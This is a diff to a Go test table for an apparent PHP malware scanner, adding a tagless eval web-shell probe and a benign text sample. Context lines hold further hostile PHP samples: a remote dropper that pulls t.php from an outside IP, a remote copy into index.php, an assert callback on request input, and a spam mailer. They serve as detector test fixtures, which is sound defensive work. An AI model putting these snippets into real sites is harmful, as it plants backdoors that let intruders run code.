@@ -85,6 +85,7 @@ var probes = []struct{ name, rule, src string }{
 	{"remote dropper", "php.remote-dropper", `<?php function fetch($url, $file = "") { $file = empty($file) ? pathinfo($url, PATHINFO_BASENAME) : $file;
 		$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); file_put_contents($file, curl_exec($ch)); }
 		fetch("http://203.0.113.5/themes/t.php");`},
+	{"tagless payload", "php.exec-input", "$c = $_POST['c'];\n@eval($c);\n"},
 	{"filter callback", "php.exec-input", `<?php filter_var($_REQUEST['op'], FILTER_CALLBACK, array('options' => 'assert'));`},
 	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
@@ -121,6 +122,7 @@ var benign = []struct{ name, src string }{
 		if (!empty($_POST['copy'])) { mail($_POST['email'], $_POST['s'], $_POST['m'], $h); }`},
 	{"configured recipient", `<?php $cfg = parse_ini_file('config.ini'); mail($cfg['admin'], 'Report', $body);`},
 	{"split literal address", `<?php mail('webmaster@' . 'example.com', 'Cron done', 'ok');`},
+	{"tagless text about PHP", "To read a form field use $_POST['name'] and never pass it to eval().\n"},
 	{"filter callback trim", `<?php $n = filter_var($_POST['name'], FILTER_CALLBACK, array('options' => 'trim'));`},
 	{"feed cache", `<?php $xml = file_get_contents("https://example.com/feed.xml"); file_put_contents("cache/feed.xml", $xml);`},
 	{"downloaded archive", `<?php copy("https://downloads.example.com/plugin.zip", "/tmp/plugin.zip"); $z = new ZipArchive(); $z->open("/tmp/plugin.zip");`},
